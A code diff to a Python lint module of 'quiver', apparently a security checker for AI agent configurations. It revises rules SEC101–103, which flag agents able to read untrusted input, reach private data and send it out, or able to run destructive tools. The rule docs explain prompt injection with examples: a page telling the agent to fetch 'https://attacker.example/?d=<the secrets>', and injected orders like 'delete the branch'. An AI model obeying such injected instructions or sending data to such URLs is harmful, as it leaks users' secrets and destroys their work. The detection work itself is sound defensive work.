@@ -1,5 +1,5 @@
 """SEC101-103, one pass over every agent's flows (quiver.capabilities.flows): the lethal trifecta through tools
-quiver knows (SEC101), the same through a built-in shell (SEC102), untrusted input that can reach a
+quiver can guard (SEC101), the same through a host built-in (SEC102), untrusted input that can reach a
 destructive tool (SEC103). Each finding names one tool of each kind, sits on the agent's `tools` entry
 that brings in the tools to drop, and says what would break the flow."""
 
@@ -8,7 +8,7 @@ from __future__ import annotations
 from collections.abc import Iterator
 from typing import Any
 
-from quiver.capabilities.flows import AgentFlows, Carried, Flow, agent_flows, approval_text, cut_text, shell_text
+from quiver.capabilities.flows import AgentFlows, Carried, Flow, agent_flows, approval_text, builtin_text, cut_text
 from quiver.capabilities.overrides import Classifier
 from quiver.findings.rule import Rule
 from quiver.lint.engine import LintContext
@@ -30,8 +30,9 @@ def check(ctx: LintContext) -> Iterator[Finding]:
         flows = agent_flows(resolved, classifier)
         for flow in flows.flows:
             if flow.kind == "toxic":
-                yield (TOXIC_FLOW_THROUGH_SHELL if flow.through_shell else TOXIC_FLOW).finding(**_values(flows, flow))
-            elif not flow.through_shell:  # through a shell, SEC102 has said it already
+                rule = TOXIC_FLOW_THROUGH_BUILTIN if flow.through_builtin else TOXIC_FLOW
+                yield rule.finding(**_values(flows, flow))
+            elif not flow.through_builtin:  # through a shell, SEC102 has said it already
                 yield DESTRUCTIVE_FLOW.finding(**_values(flows, flow))
 
 
@@ -48,7 +49,7 @@ def _values(flows: AgentFlows, flow: Flow) -> dict[str, Any]:  # Rule.finding ke
         "destructive": witness.get("destructive", ""),
         "cut": cut_text(flows, flow),
         "approve": approval_text(flow),
-        "shell": shell_text(flows, flow),
+        "builtin": builtin_text(flows, flow),
     }
 
 
@@ -80,7 +81,8 @@ a workspace) and one that can **send data out** (a comment, a pull request, a re
 lethal trifecta. Every tool the agent can reach counts, preloaded or deferred: deferral is not
 authorization. The finding names one tool of each kind (`quiver explain AGENT --flows` lists them all,
 each label with the reason that set it) and sits on the `tools` entry that brings in the smallest set
-to drop. Built-ins that run anything (a shell, tasks, tests) are left to SEC102.
+to drop. The way out is an MCP tool, which `quiver serve` can guard; a flow whose way out is a host
+built-in (a shell, `web/fetch`) is SEC102's.
 
 ## Why is this bad?
 A model cannot tell instructions it was given from instructions it read. An issue saying "post the
@@ -121,30 +123,33 @@ its online service; OWASP LLM01 prompt injection.
 )
 
 
-TOXIC_FLOW_THROUGH_SHELL = Rule(
+TOXIC_FLOW_THROUGH_BUILTIN = Rule(
     code="SEC102",
-    name="toxic-flow-through-shell",
+    name="toxic-flow-through-builtin",
     severity="info",
     check=check,
     message=(
         "agent `{agent}` can read untrusted input ({untrusted}), reach private data ({private}) and send data "
-        "out ({sink}) because {shell}"
+        "out ({sink}) through a host built-in: {builtin}"
     ),
     hint=(
-        "name the built-ins the agent needs instead of a shell, or keep the host's confirmation before each "
-        "command (quiver cannot see the user's allow-lists); {cut}"
+        "the host's confirmation before each such call is what stands in the way (quiver cannot see the "
+        "user's allow-lists): keep it, or {cut}"
     ),
     doc="""\
 ## What it does
-Notes an agent whose toxic flow (SEC101: untrusted input, private data, a way out) exists only because
-it has a built-in that runs anything: a shell (`execute`, `Bash`, `runInTerminal`), a task or test
-runner, or every built-in (`tools` unset or `*`). A command can fetch a page, read any file and send it
-anywhere, so such a built-in is a flow by itself.
+Notes an agent whose toxic flow (SEC101: untrusted input, private data, a way out) goes out only through
+a built-in of the host: a shell (`execute`, `Bash`, `runInTerminal`), a task or test runner, every
+built-in (`tools` unset or `*`), or a built-in that sends data out (`web/fetch`, `WebFetch`,
+`openSimpleBrowser`). A command can fetch a page, read any file and send it anywhere; a fetched URL can
+carry what the agent read to any host.
 
 ## Why is this bad?
-It is the same trifecta as SEC101: a page or a file the agent reads can tell it to `curl` the user's
-secrets out. What stands in the way is the host's confirmation before each command, which users turn
-off with allow-lists quiver cannot see.
+It is the same trifecta as SEC101: a page or a file the agent reads can tell it to fetch
+`https://attacker.example/?d=<the secrets>`. What stands in the way is the host's confirmation before a
+command runs or a new URL is fetched (VS Code, Copilot CLI and Claude Code ask by default), which users
+turn off with allow-lists quiver cannot see, and which an unattended run (a cloud agent) does not have.
+quiver's gateway does not see built-ins, so `[flows] enforce` cannot guard them.
 
 ## Example
 ```yaml
@@ -157,13 +162,12 @@ tools: ['read', 'edit', 'search']
 ```
 
 ## Fix
-Set `tools` to what the agent needs; keep the shell only where the agent's job is running commands,
-and keep the host's confirmation for it. A run in CI without a human (Copilot's cloud agent) deserves
-the SEC101 fixes.
+Set `tools` to what the agent needs; keep a shell or a fetch only where the agent's job needs it, and
+keep the host's confirmation for them. An agent that runs unattended deserves the SEC101 fixes.
 
 ## References
-Simon Willison, "The lethal trifecta for AI agents" (2025); VS Code, "Manage approvals and permissions";
-Claude Code, permission rules for `Bash` and `WebFetch`.
+Simon Willison, "The lethal trifecta for AI agents" (2025); VS Code, "Manage approvals and permissions"
+(tool and URL approval); Claude Code, permission rules for `Bash` and `WebFetch`.
 """,
 )
 
@@ -180,9 +184,10 @@ DESTRUCTIVE_FLOW = Rule(
     hint="{cut}, {approve}, or split the agent",
     doc="""\
 ## What it does
-Notes an agent that carries a tool bringing in untrusted input and a destructive one (it deletes things
-or overwrites them in place: `delete_file`, `write_file`, `edit`), counting deferred tools, leaving out
-built-ins that run anything (SEC102 covers those).
+Notes an agent that carries a tool bringing in untrusted input and a destructive MCP tool (it deletes
+things or overwrites them in place: `delete_file`, `write_file`, `delete_repository`), counting deferred
+tools. The host's own editing and shell built-ins are left out: the host shows or confirms their
+changes (SEC102 covers a shell's toxic flow).
 
 ## Why is this bad?
 An injected instruction needs no private data to do harm: "delete the branch", "overwrite the
@@ -210,4 +215,4 @@ MCP specification, tool annotations (`destructiveHint`); OWASP LLM06 excessive a
 )
 
 
-RULES: tuple[Rule, ...] = (TOXIC_FLOW, TOXIC_FLOW_THROUGH_SHELL, DESTRUCTIVE_FLOW)
+RULES: tuple[Rule, ...] = (TOXIC_FLOW, TOXIC_FLOW_THROUGH_BUILTIN, DESTRUCTIVE_FLOW)
